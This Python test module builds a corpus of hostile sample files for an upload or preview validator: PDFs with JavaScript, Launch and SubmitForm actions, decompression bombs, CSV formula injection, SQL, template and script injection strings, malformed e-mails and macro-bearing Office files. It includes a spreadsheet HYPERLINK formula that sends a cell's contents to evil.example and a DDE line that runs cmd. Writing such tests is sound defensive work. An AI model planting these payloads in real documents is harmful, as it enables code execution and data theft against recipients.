"""PDFs with actions, loops and bombs in them; texts and e-mails that are no pleasure to read."""

import zlib

from tests.files.corpus.cases import Case, either, refused, safe
from tests.files.samples import GOOD, bare_pdf, mail, office, ole

ALERT = "app.alert('x');this.exportDataObject({cName:'x',nLaunch:2})"
ACTIONS = {
    "javascript": f"<</S/JavaScript/JS({ALERT})>>",
    "launch": "<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "address": "<</S/URI/URI(javascript:alert\\(1\\))>>",
    "form": "<</S/SubmitForm/F(http://evil.example/)/Flags 4>>",
    "import": "<</S/ImportData/F(\\\\\\\\evil.example\\\\share)>>",
    "remote": "<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]>>",
    "embedded": "<</S/GoToE/F(other.pdf)/D[0/Fit]>>",
    "film": "<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>",
}


def with_actions() -> list[Case]:
    """A PDF may run things when it is opened, closed, printed or touched. Pages show pictures of it, made by us."""
    cases = []
    for at, (name, action) in enumerate(ACTIONS.items()):
        cases.append(safe(f"open-{name}.pdf", bare_pdf(catalog=f"/OpenAction {action}")))
        if at % 2:
            cases.append(safe(f"page-{name}.pdf", bare_pdf(page=f"/AA<</O {action}/C {action}>>")))
        else:
            link = f"<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A {action}>>"
            cases.append(safe(f"link-{name}.pdf", bare_pdf(link, page="/Annots[4 0 R]")))
    tree = f"/Names<</JavaScript<</Names[(x) {ACTIONS['javascript']}]>>>>"
    file = "<</Type/Filespec/F(evil.exe)/EF<</F 5 0 R>>>>"
    cases += [
        safe("names.pdf", bare_pdf(catalog=tree)),
        safe(
            "attachment.pdf",
            bare_pdf(
                file, "<</Length 2>>stream\nMZ\nendstream", catalog="/Names<</EmbeddedFiles<</Names[(x) 4 0 R]>>>>"
            ),
        ),
        safe("xfa.pdf", bare_pdf(catalog="/AcroForm<</XFA(<xdp:xdp><script>alert(1)</script></xdp:xdp>)/Fields[]>>")),
        safe(
            "field.pdf",
            bare_pdf(
                f"<</FT/Tx/T(x)/Subtype/Widget/Rect[0 0 9 9]/AA<</K {ACTIONS['javascript']}>>>>",
                catalog="/AcroForm<</Fields[4 0 R]>>",
                page="/Annots[4 0 R]",
            ),
        ),
    ]
    return cases


def stream(content: bytes, extra: str = "") -> str:
    packed = zlib.compress(content, 9).decode("latin-1")
    return f"<</Length {len(packed)}/Filter/FlateDecode {extra}>>stream\n{packed}\nendstream"


def malformed_pdfs() -> list[Case]:
    """Loops, lies about lengths, pages of no or of endless size, and streams that expand."""
    form = "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"
    good = GOOD["report.pdf"]
    return [
        refused("header-only.pdf", b"%PDF-1.7", "broken"),
        refused("nothing-else.pdf", b"%PDF-1.7\nnothing else", "broken"),
        refused("rubbish.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40, "broken"),
        refused("nested.pdf", b"%PDF-1.7\n" + b"[" * 200_000, "broken"),
        refused("no-kids.pdf", bare_pdf(kids="").replace(b"/Count 1", b"/Count 0")),
        either("count.pdf", bare_pdf().replace(b"/Count 1", b"/Count 99999999")),
        either("minus.pdf", bare_pdf().replace(b"/Count 1", b"/Count -5")),
        either("own-child.pdf", bare_pdf(kids="2 0 R")),
        either("missing-page.pdf", bare_pdf(kids="9 0 R")),
        either("no-catalog.pdf", bare_pdf().replace(b"/Root 1 0 R", b"/Root 9 0 R")),
        either("table.pdf", bare_pdf().replace(b"startxref\n", b"startxref\n9")),
        either("no-table.pdf", bare_pdf().split(b"xref")[0]),
        *[
            either(f"box{at}.pdf", bare_pdf(media_box=box))
            for at, box in enumerate(["0 0 0 0", "0 0 1e9 1e9", "0 0 -5 -5", "a b c d", "0 0 1e38 1", "0 0 1 14400"])
        ],
        either("form-loop.pdf", bare_pdf(
            stream(b"/X Do"), stream(b"/X Do", form), page="/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>"
        )),
        either("bomb.pdf", bare_pdf(stream(b"0 0 m 9 9 l S\n" * 100_000), page="/Contents 4 0 R")),
        either("bomb-in-bomb.pdf", bare_pdf(
            stream(zlib.compress(b"\0" * 50_000_000, 9), "/Filter[/FlateDecode/FlateDecode]"), page="/Contents 4 0 R"
        )),
        either("picture-bomb.pdf", bare_pdf(
            stream(b"q 200 0 0 200 0 0 cm /I Do Q"),
            stream(b"\0" * 1_000_000, "/Subtype/Image/Width 60000/Height 6000/BitsPerComponent 8/ColorSpace/DeviceRGB"),
            page="/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>",
        )),
        either("many-pages.pdf", bare_pdf(kids="3 0 R " * 3000).replace(b"/Count 1", b"/Count 3000")),
        either("spaces.pdf", b"\n" * 500 + good),
        either("twice.pdf", good + good),
        either("version.pdf", good.replace(b"%PDF-1", b"%PDF-9")),
    ]  # fmt: skip


def texts() -> list[Case]:
    """Plain texts and tables: they are shown as text, and download as text."""
    return [
        safe("formula.csv", b'=cmd|"/c calc"!A1,@SUM(1+1)*cmd,+1,-1\n'),
        safe("link.csv", b'=HYPERLINK("http://evil.example?x="&A1,"click")\n'),
        safe("one-line.txt", b"word " * 400_000),
        safe("lines.txt", b"\n" * 300_000),
        safe("wide.txt", "ÄÖÜ €".encode("utf-16")),
        safe("windows.txt", "naïve €".encode("cp1252")),
        safe("marks.txt", ("a" + "\u0300" * 5000).encode()),
        safe("directions.txt", "\u202eevil\u202c \u2066x".encode()),
        safe("template.txt", b"{{ request.user }} {% load x %} ${7*7} <%= 7 %>"),
        safe("query.txt", b"'; DROP TABLE files_blob; --"),
        refused("nought.txt", b"a\0b"),
        refused("escape.txt", b"\x1b]0;title\x07\x1b[31mred"),
        refused("utf16-cut.txt", "abc".encode("utf-16")[:-1] + b"\xd8"),
        refused("utf32.txt", "abc".encode("utf-32")),
        refused("bytes.txt", bytes(range(256))),
    ]


def mails() -> list[Case]:
    """E-mails: pages with scripts in them, programs attached, parts without end, headers that lie."""
    nested = "".join(
        f"Content-Type: multipart/mixed; boundary=b{at}\r\n\r\n--b{at}\r\n" for at in range(300)
    ).encode()  # fmt: skip
    head = b"From: sam@shop.example\r\nTo: me@shop.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
    return [
        safe("page.eml", head + b"Content-Type: text/html\r\n\r\n<script>alert(1)</script><b>Thank you</b>"),
        safe("program.eml", head + b'Content-Type: application/x-msdownload; name="a.exe"\r\n\r\nMZ'),
        safe("nested.eml", head + nested),
        safe("charset.eml", head + b"Content-Type: text/plain; charset=nobody-knows\r\n\r\n\xe9t\xe9"),
        safe("base64.eml", head + b"Content-Transfer-Encoding: base64\r\n\r\n!!!! not base64 !!!!"),
        safe("quoted.eml", head + b"Content-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=00=1B"),
        safe("boundary.eml", head + b"Content-Type: multipart/mixed\r\n\r\n--\r\n--\r\n"),
        safe("parts.eml", head + b"Content-Type: multipart/mixed; boundary=a\r\n\r\n" + b"--a\r\n\r\nx\r\n" * 2000),
        safe("headers.eml", head + b"X-Y: z\r\n" * 5000 + b"\r\nx"),
        safe("folded.eml", head.replace(b"x\r\n", b"=?utf-8?q?=00=1b?= =?x?y?z?=\r\n\t more\r\n", 1) + b"\r\nx"),
        safe("date.eml", head + b"Date: never\r\nCc: <<<>>>,,;@@\r\n\r\nx"),
        safe("long.eml", mail() + b"x" * 500_000),
        refused("not-a-mail.eml", b"Dear Sam,\r\nthank you."),
        refused("page-as-mail.eml", b"<html><script>alert(1)</script>"),
    ]


def old_office() -> list[Case]:
    """Old Word, Excel and PowerPoint files: with macros, of no kind at all, or under a password."""
    sheet = b"\x85\0" + bytes([8 + 6]) + b"\0" + b"\0\0\0\0" + b"\1\1" + b"\6\0Macro1"
    return [
        *[
            refused(name, ole(entry, "Macros"), "contains macros")
            for name, entry in [("a.doc", "WordDocument"), ("a.xls", "Workbook"), ("a.ppt", "PowerPoint Document")]
        ],
        refused("vba.xls", ole("Workbook", "_VBA_PROJECT_CUR"), "contains macros"),
        refused("vba.doc", ole("WordDocument", "_VBA_PROJECT"), "contains macros"),
        refused("excel4.xls", ole("Workbook") + sheet, "contains macros"),
        refused("excel4-hidden.xls", ole("Book") + sheet.replace(b"\1\1\6", b"\2\1\6"), "contains macros"),
        refused("locked.docx", ole("EncryptedPackage"), "password"),
        refused("locked.xlsx", ole("EncryptedPackage"), "password"),
        refused("nothing.doc", ole()),
        refused("package.doc", ole("Package")),
        refused("header.doc", ole("WordDocument")[:8]),
        refused("new-as-old.doc", office("word/document.xml"), "says it is"),
        refused("old-as-new.docx", ole("WordDocument"), "says it is"),
        either("fragments.doc", ole("WordDocument") * 200),
    ]


FAMILIES = {
    "PDFs with actions": with_actions,
    "malformed PDFs": malformed_pdfs,
    "texts": texts,
    "e-mails": mails,
    "old office files": old_office,
}
